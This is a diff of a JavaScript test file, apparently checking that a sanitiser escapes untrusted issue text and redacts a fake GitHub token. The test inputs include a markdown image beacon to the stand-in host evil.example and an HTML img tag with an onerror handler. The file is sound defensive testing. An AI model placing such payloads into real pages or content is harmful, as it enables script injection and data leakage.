@@ -5,8 +5,10 @@ import { epicDescription, epicTitle } from '../../../domain/forge/issue-text.js'
 
 test('a foreign text notifies nobody, shows nothing of elsewhere and says no secret', () => {
   expect(
-  foreignLine('@octocat see #12, ![x](https://evil.example/?d=1) <img src=x onerror=y> www.evil.example `code`')
-).toMatchInlineSnapshot(`"&#64;​octocat see &#35;​12, &#33;&#91;x&#93;&#40;https&#58;//evil.example/?d&#61;1&#41; &lt;img src&#61;x onerror&#61;y&gt; www&#46;evil.example &#96;code&#96;"`);
+    foreignLine('@octocat see #12, ![x](https://evil.example/?d=1) <img src=x onerror=y> www.evil.example `code`'),
+  ).toMatchInlineSnapshot(
+    `"&#64;​octocat see &#35;​12, &#33;&#91;x&#93;&#40;https&#58;//evil.example/?d&#61;1&#41; &lt;img src&#61;x onerror&#61;y&gt; www&#46;evil.example &#96;code&#96;"`,
+  );
   expect(foreignLine('token ghp_0123456789abcdefghij')).not.toContain('ghp_');
   expect(foreignBlock('one\n> two\n\n- [x] three @all', 1_000)).toMatchInlineSnapshot(`
 "> one
